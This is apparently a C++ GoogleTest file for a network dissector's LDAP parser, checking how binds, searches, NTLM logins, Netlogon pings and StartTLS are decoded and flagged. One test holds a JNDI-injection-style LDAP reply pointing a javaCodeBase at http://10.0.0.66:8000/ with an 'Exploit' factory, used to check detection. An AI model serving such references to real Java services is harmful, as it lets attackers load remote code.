// LDAP: who binds how, what is searched and changed, what answers tell, and what breaks a rule.
#include "tests/dissect/harness.hpp"

#include <gtest/gtest.h>

#include <algorithm>

namespace mw::test {
namespace {

using octets = std::vector<std::uint8_t>;
octets operator+(octets a, const octets& b) {
  a.insert(a.end(), b.begin(), b.end());
  return a;
}
octets tlv(unsigned tag, const octets& content) {
  octets head{static_cast<std::uint8_t>(tag)};
  if (content.size() > 127) head.push_back(0x82), head.push_back(static_cast<std::uint8_t>(content.size() >> 8));
  head.push_back(static_cast<std::uint8_t>(content.size()));
  return head + content;
}
octets num(unsigned n, unsigned tag = 2) { return tlv(tag, {static_cast<std::uint8_t>(n)}); }
octets str(std::string_view s, unsigned tag = 4) { return tlv(tag, {s.begin(), s.end()}); }
octets seq(const octets& c) { return tlv(0x30, c); }
octets set(const octets& c) { return tlv(0x31, c); }
octets op(unsigned tag, const octets& content) { return tlv(0x60 + tag, content); }
octets message(unsigned id, const octets& operation, const octets& controls = {}) { return seq(num(id) + operation + controls); }
octets bind(unsigned id, std::string_view name, std::string_view password, unsigned version = 3) {
  return message(id, op(0, num(version) + str(name) + str(password, 0x80)));
}
octets sasl(unsigned id, std::string_view mechanism, const octets& credentials) {
  return message(id, op(0, num(3) + str("") + tlv(0xa3, str(mechanism) + tlv(4, credentials))));
}
octets result(unsigned id, unsigned tag, unsigned code, std::string_view text = "", const octets& more = {}) {
  return message(id, op(tag, num(code, 10) + str("") + str(text) + more));
}
octets search(unsigned id, std::string_view base, unsigned scope, const octets& filter, const std::vector<std::string>& names = {}) {
  octets list;
  for (const auto& n : names) list = list + str(n);
  return message(id, op(3, str(base) + num(scope, 10) + num(0, 10) + num(0) + num(0) + num(0, 1) + filter + seq(list)));
}
octets equal(std::string_view name, std::string_view value) { return tlv(0xa3, str(name) + str(value)); }
const octets anything = str("objectClass", 0x87);
octets attribute(std::string_view name, const octets& value) { return seq(str(name) + set(tlv(4, value))); }
octets attribute(std::string_view name, std::string_view value) { return attribute(name, octets{value.begin(), value.end()}); }
octets entry(unsigned id, std::string_view name, const octets& attributes) { return message(id, op(4, str(name) + seq(attributes))); }
octets ntlm(unsigned type, const octets& rest) { return hex("4e544c4d53535000") + octets{static_cast<std::uint8_t>(type), 0, 0, 0} + rest; }
/// The user "paula" of "MILL" at "PC7" with a proof of 24 octets.
const octets authenticate =
    ntlm(3, hex("0000 0000 58000000  1800 1800 58000000  0800 0800 70000000  0a00 0a00 78000000  0600 0600 82000000  0000 0000 88000000"
                "01020000 0a00 6345 0000000f 00000000000000000000000000000000") +
                octets(24, 0x5a) + hex("4d0049004c004c00 70006100750 06c006100 500043003700"));

std::string text_of(const operation& o, std::string_view name) {
  const auto at = std::ranges::find(o.fields, name, &field::first);
  return at == o.fields.end() ? "-" : to_string(at->second);
}
std::string told(const recorder& r) {
  std::string out;
  for (const auto& o : r.operations) {
    (out += out.empty() ? "" : "; ") += o.function_name + (o.objects.empty() ? "" : ' ' + o.objects[0].address);
    out += ' ' + std::string{to_string(o.outcome)} + (o.code ? ' ' + *o.code : "");
  }
  return out;
}
std::string rules(const recorder& r) {
  std::string out;
  for (const auto& v : r.violations) (out += out.empty() ? "" : " ") += v.rule;
  return out;
}
std::string facts(const recorder& r, side who) {
  std::string out;
  for (const auto& f : r.facts)
    if (f.who == who) (out += out.empty() ? "" : "|") += f.kind + '=' + f.value;
  return out;
}
struct directory : conversation {
  explicit directory(transport t = transport::tcp) : conversation{"ldap", t} {
    client_end.address = ip::v4(10, 0, 0, 9), server_end.address = ip::v4(10, 0, 0, 1);
  }
  void client(const octets& o) { EXPECT_EQ(say(side::client, o), 0U); }
  void server(const octets& o) { EXPECT_EQ(say(side::server, o), 0U); }
};
using fields = std::vector<std::pair<std::string, std::string>>;

TEST(ldap, requests_and_their_answers) {
  const struct {
    const char* name;
    octets request, answer;
    std::string told;
    action what;
    fields said;
  } rows[] = {
      {"anonymous",
       bind(1, "", ""),
       result(1, 1, 0),
       "bind ok",
       action::authenticate,
       {{"method", "simple"}, {"anonymous", "true"}, {"password_given", "false"}, {"result", "success"}}},
      {"simple",
       bind(2, "cn=paula", "hunter2"),
       result(2, 1, 0),
       "bind cn=paula ok",
       action::authenticate,
       {{"user", "cn=paula"}, {"clear_text", "true"}, {"password_given", "true"}}},
      {"no_password",
       bind(2, "cn=paula", ""),
       result(2, 1, 53),
       "bind cn=paula refused 53",
       action::authenticate,
       {{"unauthenticated", "true"}, {"result", "unwilling_to_perform"}}},
      {"wrong",
       bind(2, "paula@mill", "hunter2"),
       result(2, 1, 49, "80090308: LdapErr: DSID-0C090447, comment: AcceptSecurityContext error, data 52e, v3839"),
       "bind paula@mill refused 49",
       action::authenticate,
       {{"result", "invalid_credentials"}, {"windows_error", "invalid_credentials"}}},
      {"plain",
       sasl(3, "PLAIN", hex("00 61 00 62")),
       result(3, 1, 0),
       "bind ok",
       action::authenticate,
       {{"method", "sasl"}, {"mechanism", "PLAIN"}, {"clear_text", "true"}}},
      {"search",
       search(4, "dc=mill", 2, anything, {"cn", "member"}),
       entry(4, "cn=a", {}) + entry(4, "cn=b", {}) + result(4, 5, 0),
       "search dc=mill ok",
       action::read,
       {{"scope", "sub"}, {"filter", "(objectClass=*)"}, {"attributes", "cn,member"}, {"entries", "2"}}},
      {"root", search(5, "", 0, anything), result(5, 5, 0), "search  ok", action::identify, {{"scope", "base"}}},
      {"referred",
       search(5, "dc=far", 1, anything),
       result(5, 5, 10, "", tlv(0xa3, str("ldap://far/"))),
       "search dc=far ok 10",
       action::read,
       {{"referral", "ldap://far/"}}},
      {"continued",
       search(5, "dc=far", 1, anything),
       message(5, op(19, str("ldap://b/") + str("ldap://c/"))) + result(5, 5, 0),
       "search dc=far ok",
       action::read,
       {{"referral", "ldap://b/,ldap://c/"}, {"references", "1"}}},
      {"modify",
       message(6, op(6, str("cn=g") + seq(seq(num(2, 10) + seq(str("unicodePwd") + set(str("\"x\"")))) +
                                          seq(num(0, 10) + seq(str("member") + set(str("cn=p"))))))),
       result(6, 7, 50),
       "modify cn=g refused 50",
       action::write,
       {{"attributes", "replace:unicodePwd,add:member"}, {"result", "insufficient_access_rights"}}},
      {"add",
       message(7, op(8, str("cn=n") + seq(attribute("objectClass", "user") + attribute("cn", "n")))),
       result(7, 9, 0),
       "add cn=n ok",
       action::write,
       {{"attributes", "objectClass,cn"}}},
      {"delete", message(8, str("cn=n", 0x4a)), result(8, 11, 32), "delete cn=n refused 32", action::write, {{"result", "no_such_object"}}},
      {"rename",
       message(9, op(12, str("cn=n") + str("cn=m") + num(1, 1))),
       result(9, 13, 0),
       "modify_dn cn=n ok",
       action::write,
       {{"new_name", "cn=m"}}},
      {"compare",
       message(10, op(14, str("cn=n") + seq(str("member") + str("x")))),
       result(10, 15, 5),
       "compare cn=n ok 5",
       action::read,
       {{"result", "compare_false"}}},
      {"password",
       message(11, op(23, str("1.3.6.1.4.1.4203.1.11.1", 0x80) + tlv(0x81, seq(str("hunter2", 0x82))))),
       result(11, 24, 0),
       "password_modify ok",
       action::write,
       {}},
      {"silence", search(12, "dc=mill", 2, anything), {}, "search dc=mill timeout", action::read, {}},
      {"unasked", {}, result(13, 5, 0), "search unpaired", action::read, {}},
      {"abandoned",
       search(14, "dc=mill", 2, anything) + message(15, tlv(0x50, {14})),
       {},
       "search dc=mill none",
       action::read,
       {{"abandoned", "true"}}},
      {"controls",
       message(16, str("cn=n", 0x4a), tlv(0xa0, seq(str("1.2.840.113556.1.4.805")))),
       result(16, 11, 0),
       "delete cn=n ok",
       action::write,
       {}},
  };
  for (const auto& r : rows) {
    SCOPED_TRACE(r.name);
    directory d;
    if (!r.request.empty()) d.client(r.request);
    if (!r.answer.empty()) d.server(r.answer);
    d.end();
    ASSERT_EQ(told(d.out), r.told);
    const auto& o = d.out.operations[0];
    EXPECT_EQ(o.action, r.what);
    for (const auto& [name, value] : r.said) EXPECT_EQ(text_of(o, name), value) << name;
    for (const auto& [n, v] : o.fields) EXPECT_EQ(to_string(v).find("hunter2"), std::string::npos);
    EXPECT_EQ(rules(d.out), "");
  }
}

TEST(ldap, filters_as_text) {
  const std::pair<octets, std::string> rows[] = {
      {tlv(0xa0, equal("a", "1") + tlv(0xa1, anything + tlv(0xa2, equal("b", "2")))), "(&(a=1)(|(objectClass=*)(!(b=2))))"},
      {tlv(0xa5, str("n") + str("5")), "(n>=5)"},
      {tlv(0xa6, str("n") + str("5")), "(n<=5)"},
      {tlv(0xa8, str("n") + str("5")), "(n~=5)"},
      {tlv(0xa4, str("cn") + seq(str("a", 0x80) + str("b", 0x81) + str("c", 0x82))), "(cn=a*b*c)"},
      {tlv(0xa4, str("cn") + seq(str("b", 0x81))), "(cn=*b*)"},
      {tlv(0xa4, str("cn") + seq(str("b", 0x82))), "(cn=*b)"},
      {tlv(0xa9, str("1.2.840.113556.1.4.803", 0x81) + str("userAccountControl", 0x82) + str("2", 0x83)),
       "(userAccountControl:1.2.840.113556.1.4.803:=2)"},
      {equal("objectSid", std::string_view{"\x01*\xff", 3}), "(objectSid=\\01\\2a\\ff)"},
  };
  for (const auto& [filter, expected] : rows) {
    directory d;
    d.client(search(1, "", 2, filter)), d.end();
    ASSERT_EQ(d.out.operations.size(), 1U);
    EXPECT_EQ(text_of(d.out.operations[0], "filter"), expected);
    EXPECT_EQ(rules(d.out), "");
  }
}

TEST(ldap, rounds_of_a_login_are_one_operation) {
  directory d;
  d.client(sasl(1, "GSS-SPNEGO", ntlm(1, hex("01020000 0000000000000000 0000000000000000")))), d.server(result(1, 1, 14));
  EXPECT_EQ(told(d.out), "");
  d.client(sasl(2, "GSS-SPNEGO", authenticate)), d.server(result(2, 1, 49));
  ASSERT_EQ(d.out.operations.size(), 1U);
  const auto& o = d.out.operations[0];
  EXPECT_EQ(o.outcome, outcome::refused);
  EXPECT_EQ(text_of(o, "mechanism"), "GSS-SPNEGO");
  EXPECT_EQ(text_of(o, "gss_mechanism"), "ntlm");
  EXPECT_EQ(text_of(o, "user"), "paula");
  EXPECT_EQ(o.latency, std::chrono::milliseconds{3});
  EXPECT_EQ(rules(d.out), "");
  directory cut;
  cut.client(sasl(1, "GSSAPI", hex("60"))), cut.server(result(1, 1, 14)), cut.end();
  EXPECT_EQ(told(cut.out), "bind timeout");
}

TEST(ldap, a_root_says_who_it_is) {
  directory d;
  for (unsigned i = 1; i < 3; ++i) {
    d.client(search(i, "", 0, anything));
    d.server(entry(i, "",
                   attribute("dnsHostName", "dc1.mill.local") + attribute("defaultNamingContext", "DC=mill,DC=local") +
                       attribute("domainControllerFunctionality", "7") + attribute("vendorName", "ACME")) +
             result(i, 5, 0));
  }
  EXPECT_EQ(facts(d.out, side::server),
            "host_name=dc1.mill.local|domain=mill.local|role=domain_controller|os=Windows Server 2016 or later|vendor=ACME|"
            "role=directory_server");
}

TEST(ldap, a_domain_controller_is_looked_for) {
  directory d{transport::udp};
  d.client(search(1, "", 0,
                  tlv(0xa0, equal("DnsDomain", "mill.local") + equal("Host", "PC7") + equal("NtVer", std::string_view{"\x16\0\0\0", 4})),
                  {"Netlogon"}));
  // flags GC and PDC; the domain's name stands in the forest's, the host's points to it
  const octets answer = hex("1700 0000 05000000") + octets(16, 1) +
                        hex("04 6d696c6c 05 6c6f63616c 00  c018  03 646331 c018  04 4d494c4c 00  03 444331 00  00  04 506c616e 00 c042");
  d.server(entry(1, "", attribute("Netlogon", answer)) + result(1, 5, 0));
  EXPECT_EQ(facts(d.out, side::client), "host_name=PC7");
  EXPECT_EQ(rules(d.out), "");
  EXPECT_EQ(facts(d.out, side::server),
            "domain=mill.local|forest=mill.local|host_name=dc1.mill.local|netbios_domain=MILL|netbios_name=DC1|site=Plan|"
            "role=primary_domain_controller|role=global_catalog|role=domain_controller|role=directory_server");
  directory old{transport::udp};
  old.server(entry(1, "", attribute("Netlogon", hex("1300 5c005c0044004300 0000 0000 4d00 0000"))));
  EXPECT_EQ(facts(old.out, side::server), "netbios_name=DC|netbios_domain=M|role=domain_controller");
  directory loop{transport::udp};
  loop.server(entry(1, "", attribute("Netlogon", hex("1700 0000 00000000") + octets(16) + hex("c018"))));
  EXPECT_EQ(facts(loop.out, side::server), "role=domain_controller");
}

TEST(ldap, an_answer_that_loads_code) {
  directory d;
  d.client(search(2, "Exploit", 0, anything));
  d.server(entry(2, "Exploit",
                 attribute("javaClassName", "foo") + attribute("javaCodeBase", "http://10.0.0.66:8000/") +
                     attribute("objectClass", "javaNamingReference") + attribute("javaFactory", "Exploit")) +
           result(2, 5, 0));
  ASSERT_EQ(told(d.out), "search Exploit ok");
  const auto& o = d.out.operations[0];
  EXPECT_EQ(text_of(o, "java_class_name"), "foo");
  EXPECT_EQ(text_of(o, "java_code_base"), "http://10.0.0.66:8000/");
  EXPECT_EQ(text_of(o, "java_factory"), "Exploit");
  EXPECT_EQ(rules(d.out), "java_reference");
  directory bytes;
  bytes.client(search(2, "a", 0, anything)),
      bytes.server(entry(2, "a", attribute("javaSerializedData", hex("aced0005"))) + result(2, 5, 0));
  EXPECT_EQ(text_of(bytes.out.operations.at(0), "java_serialized_data_bytes"), "4");
}

TEST(ldap, tls_begins_when_it_is_granted) {
  const auto ask = message(1, op(23, str("1.3.6.1.4.1.1466.20037", 0x80)));
  directory d;
  d.client(ask), d.server(result(1, 24, 0));
  EXPECT_EQ(told(d.out), "start_tls ok");
  EXPECT_EQ(d.out.became, "tls");
  directory refused;
  refused.client(ask), refused.server(result(1, 24, 52));
  EXPECT_EQ(refused.out.became, "");
  directory closed;
  closed.server(result(0, 24, 52, "", str("1.3.6.1.4.1.1466.20036", 0x8a)));
  EXPECT_EQ(closed.out.described["disconnected"], "unavailable");
}

TEST(ldap, what_a_security_layer_wraps) {
  const auto request = search(1, "dc=mill", 2, anything);
  const auto wrapped = [](const octets& token) { return octets{0, 0, 0, static_cast<std::uint8_t>(token.size())} + token; };
  directory d;
  d.client(wrapped(hex("01000000 0102030405060708 00000000") + request));
  d.client(wrapped(hex("0504 00 ff 0002 0002 0000000000000001 aaaa") + search(2, "dc=b", 2, anything)));
  d.client(wrapped(hex("0504 02 ff 0000 001c 0000000000000001") + octets(40, 0x5a)));
  d.client(wrapped(hex("01000000 0102030405060708 00000000") + octets(40, 0x5a)));
  d.end();
  EXPECT_EQ(told(d.out), "search dc=mill timeout; search dc=b timeout");
  EXPECT_EQ(d.out.counts["ldap/wrapped/signed"], 2U);
  EXPECT_EQ(d.out.counts["ldap/wrapped/sealed"], 2U);
  EXPECT_EQ(rules(d.out), "");
}

TEST(ldap, rules) {
  const struct {
    const char* name;
    octets client, server;
    std::string rules;
  } rows[] = {
      {"version", bind(1, "", "", 1), {}, "version"},
      {"operation", message(1, op(30, {})), {}, "message"},
      {"filter", search(1, "", 0, tlv(0xaf, {})), {}, "message"},
      {"answer", search(1, "", 0, anything), result(1, 9, 0), "response"},
      {"trailer", message(1, str("a", 0x4a), str("x")), {}, "message"},
  };
  for (const auto& r : rows) {
    SCOPED_TRACE(r.name);
    directory d;
    d.client(r.client);
    if (!r.server.empty()) d.server(r.server);
    EXPECT_EQ(rules(d.out), r.rules);
  }
  octets deep = anything;
  for (int i = 0; i < 40; ++i) deep = tlv(0xa2, deep);
  directory d;
  d.client(search(1, "", 0, deep));
  EXPECT_EQ(rules(d.out), "message");
}

TEST(ldap, accepts_passwords_in_clear_text_only_where_it_does) {
  directory good, bad;
  good.client(bind(1, "cn=a", "x")), good.server(result(1, 1, 0));
  bad.client(bind(1, "cn=a", "x")), bad.server(result(1, 1, 8));
  EXPECT_EQ(facts(good.out, side::server), "role=directory_server|insecure_configuration=accepts passwords in clear text");
  EXPECT_EQ(facts(bad.out, side::server), "role=directory_server");
}

TEST(ldap, knows_itself) {
  const auto& p = named("ldap").about;
  EXPECT_EQ(p.probe(bind(1, "", ""), transport::tcp), match::yes);
  EXPECT_EQ(p.probe(hex("3084 00000010"), transport::tcp), match::unsure);
  EXPECT_EQ(p.probe(hex("302602010104067075626c6963a019020101020100020100300e300c06082b060102010105000500"), transport::udp), match::no);
  EXPECT_EQ(p.probe(hex("16 03 01 00 05"), transport::tcp), match::no);
  EXPECT_FALSE(p.frame(hex("3080 0201")));
  EXPECT_FALSE(p.frame(hex("3084 7fffffff 02")));
  directory d;
  d.gap(side::client), d.gap(side::server), d.client(bind(1, "", "")), d.wait(std::chrono::minutes{3});
  EXPECT_EQ(told(d.out), "bind timeout");
  directory many;
  for (unsigned i = 0; i < 130; ++i) many.client(message(0, tlv(0x4a, {'a'})));
  EXPECT_EQ(many.out.operations.size(), 2U);
}

TEST(ldap, every_prefix) {
  every_prefix("ldap",
               {{side::client, sasl(1, "GSS-SPNEGO", authenticate)},
                {side::server, result(1, 1, 14)},
                {side::client, search(2, "", 0, tlv(0xa4, str("cn") + seq(str("a", 0x80))), {"Netlogon"})},
                {side::server, entry(2, "", attribute("Netlogon", hex("1700 0000 00000000") + octets(16) + hex("0161 00 c018 c018")))},
                {side::client, message(6, op(6, str("g") + seq(seq(num(2, 10) + seq(str("m") + set(str("x")))))))},
                {side::client, hex("00000014 0504 00 ff 0002 0002 0000000000000001 aaaa 3000")}});
}

}  // namespace
}  // namespace mw::test
